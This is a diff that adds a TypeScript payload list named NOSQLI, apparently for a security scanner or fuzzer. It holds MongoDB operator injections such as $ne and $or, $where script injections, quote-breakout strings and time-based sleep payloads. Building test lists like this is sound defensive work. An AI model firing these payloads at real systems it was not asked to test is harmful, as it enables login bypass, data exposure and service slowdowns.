@@ -1,0 +1,22 @@
+/** Operators where a value should be, and scripts in queries. */
+export const NOSQLI = [
+  '{"$ne":null}',
+  '{"$gt":""}',
+  '{"$regex":"^a"}',
+  '{"$where":"sleep(5000)"}',
+  "' || '1'=='1",
+  "';return true;var x='",
+  "{w}' && this.password.match(/.*/)//",
+  '{"$or":[{},{"a":"a"}]}',
+  '{"$in":["admin","root"]}',
+  '{w}", $or: [ {}, { "a": "a',
+  "';sleep(5000);'",
+  '{"$nin":[]}',
+  '{"$exists":true}',
+  "true, $where: '1 == 1'",
+  ", $where: '1 == 1'",
+  "$where: '1 == 1'",
+  "{ $ne: 1 }",
+  "';it=new%20Date();do{pt=new%20Date();}while(pt-it<5000);'",
+  '{"$expr":{"$eq":[1,1]}}',
+] as const;
